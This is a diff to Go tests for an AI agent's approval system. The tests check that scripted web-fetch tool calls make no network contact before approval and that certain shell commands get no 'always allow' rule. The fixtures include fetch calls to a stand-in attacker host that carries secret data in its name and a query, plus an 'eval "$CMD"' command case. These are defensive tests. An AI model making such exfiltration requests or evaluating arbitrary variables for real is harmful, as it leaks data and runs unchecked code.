@@ -120,12 +120,11 @@ func TestWebFetchNothingBeforeApproval(t *testing.T) {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Parallel()
 			var lookups, conns atomic.Int32
-			web, hits := pageServer(t)
-			web.Config.ConnState = func(_ net.Conn, s http.ConnState) {
+			web, hits := pageServerWith(t, func(_ net.Conn, s http.ConnState) {
 				if s == http.StateNew {
 					conns.Add(1)
 				}
-			}
+			})
 			name := "http://exfil-s3cret-data.attacker.example/x"
 			h := newHarness(t, llm.ProviderAnthropic, fakellm.Script{Turns: []fakellm.Turn{
 				{ToolCalls: []fakellm.ToolCall{fetchCall("n1", name, ""), fetchCall("a1", web.URL+"/exfil?data=s3cret", "")}},
@@ -188,7 +187,7 @@ func TestApprovalKindsAndAlwaysRules(t *testing.T) {
 		always    []string
 	}{
 		{"c1", `{"command":"make build"}`, events.ApprovalCommand, []string{`allow run_bash "make build"`}},
-		{"c2", `{"command":"cat $(ls)"}`, events.ApprovalCommand, nil},
+		{"c2", `{"command":"eval \"$CMD\""}`, events.ApprovalCommand, nil},
 		{"c3", `{"command":"go build ./... && go test ./..."}`, events.ApprovalCommand, []string{`allow run_bash "go build ./..."`, `allow run_bash "go test ./..."`}},
 		{"w1", `{"path":"new.txt","content":"x\n"}`, events.ApprovalChange, []string{`allow edits "new.txt"`}},
 	}
